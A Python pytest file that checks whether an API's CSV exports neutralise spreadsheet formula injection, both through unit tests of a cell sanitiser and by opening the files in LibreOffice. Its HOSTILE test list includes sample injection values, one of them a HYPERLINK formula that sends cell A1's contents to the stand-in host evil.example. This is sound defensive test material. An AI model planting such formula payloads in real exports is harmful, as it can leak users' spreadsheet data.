"""Every CSV the API writes opens in a spreadsheet as data, never as formulas.

The rule is checked on its own (``core.spreadsheet``), then proven with a real spreadsheet:
LibreOffice Calc opens the files the way customers do (comma; semicolon and tab with trimmed
spaces; semicolon only) and no cell is a formula. Each proof first opens the same values written
by a plain ``csv.writer`` and expects formulas there, so the check can fail.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from core.models import Call
from core.spreadsheet import csv_chunks, is_dangerous, safe_cell
from tests.campaigns.test_api_campaigns import campaign_api  # noqa: F401 - fixture
from tests.hostile.spreadsheet import IMPORTS, formulas

HOSTILE = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    " =2+2",                # a leading space, trimmed by the spreadsheet
    "\u00a0=3+3",           # NBSP
    "\u2003=3+4",           # EM SPACE
    "\u200b=3+5",           # ZERO WIDTH SPACE (a format character)
    "q;=4+4",               # Excel locales that split on ';'
    "q; =4+5",
    "+5+5",
    "-6+6",
    "@SUM(1+1)",
    "\t=7+7",
    "a\t=8+8",
    "\r=9+9",
    "x,=10+10",
    "line\n=11+11",
]
HARMLESS = ["03001234567", "Ali Khan", "a-b", "x@example.pk", "a, b", "1-2", "note: =x", "Karachi; Lahore", ""]


@pytest.mark.parametrize("value", HOSTILE)
def test_dangerous_cells_get_a_leading_quote(value: str) -> None:
    assert is_dangerous(value)
    one_line = value.replace("\r", " ").replace("\n", " ")
    assert safe_cell(value) == "'" + one_line


def test_line_breaks_become_spaces() -> None:
    assert safe_cell("a\r\nb\u2028c\x85d") == "a  b c d"
    assert safe_cell("a\n=1") == "'a =1"


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_cells_are_left_alone(value: str) -> None:
    assert not is_dangerous(value)
    assert safe_cell(value) == value


def test_non_text_cells_pass_through() -> None:
    assert safe_cell(-5) == -5 and safe_cell(None) is None
    text = "".join(csv_chunks([["n", "value"], [-5, "=1"]]))
    assert text == '"n","value"\r\n"-5","\'=1"\r\n'


def test_chunks_join_to_the_whole_file() -> None:
    rows = [[i, f"=cell {i}", "x" * 50] for i in range(5000)]
    chunks = list(csv_chunks(rows))
    assert len(chunks) > 1
    back = list(csv.reader(io.StringIO("".join(chunks))))
    assert back == [[str(i), f"'=cell {i}", "x" * 50] for i in range(5000)]


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8", newline="")
    return path


def _plain_csv(rows: list[list[str]]) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    return buf.getvalue()


@pytest.mark.parametrize("how", sorted(IMPORTS))
def test_libreoffice_finds_no_formula_in_safe_csv(tmp_path: Path, how: str) -> None:
    rows = [["line", "value", "reason"], *([str(i), value, "contains invalid characters"]
                                           for i, value in enumerate(HOSTILE + HARMLESS, start=2))]
    plain = formulas(_write(tmp_path / "plain.csv", _plain_csv(rows)), IMPORTS[how], tmp_path)
    assert plain, f"control: a plain CSV should give LibreOffice formulas when opened as {how}"
    safe = formulas(_write(tmp_path / "safe.csv", "".join(csv_chunks(rows))), IMPORTS[how], tmp_path)
    assert safe == [], f"formulas in the safe CSV opened as {how}: {safe}"


def test_downloads_of_the_api_open_without_formulas(campaign_api: Any, client: Any, tenant: Any,  # noqa: F811
                                                    sessions: Any, tmp_path: Path) -> None:
    """rejected.csv carries the customer's own cells; report.csv the numbers and causes."""
    lines = [value.replace("\r", " ").replace("\n", " ").replace('"', "'") for value in HOSTILE]
    data = ("name;phone\r\n" + "".join(f'row{i};"{value}"\r\n' for i, value in enumerate(lines))
            + "ok;03001234567\r\n").encode()
    got = campaign_api.imported(tenant, data)
    assert got["import_summary"]["accepted"] == 1 and got["import_summary"]["invalid"] >= len(HOSTILE) - 1
    with sessions() as session:  # a cause as the switch would never send it, to cover report.csv's text cells
        session.execute(sa.update(Call).where(Call.campaign_id == got["id"]).values(last_cause="=1+1;=2+2"))
        session.commit()

    for name in ("rejected.csv", "report.csv"):
        response = client.get(f"/api/v1/campaigns/{got['id']}/{name}", headers=tenant.headers)
        assert response.status_code == 200 and response.mimetype == "text/csv"
        path = _write(tmp_path / name, response.get_data(as_text=True))
        cells = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
        plain = _write(tmp_path / f"plain-{name}",
                       _plain_csv([[cell.removeprefix("'") for cell in row] for row in cells]))
        for how, options in sorted(IMPORTS.items()):
            assert formulas(plain, options, tmp_path), f"control: {name} without the quotes, opened as {how}"
            assert formulas(path, options, tmp_path) == [], f"{name} opened as {how}"
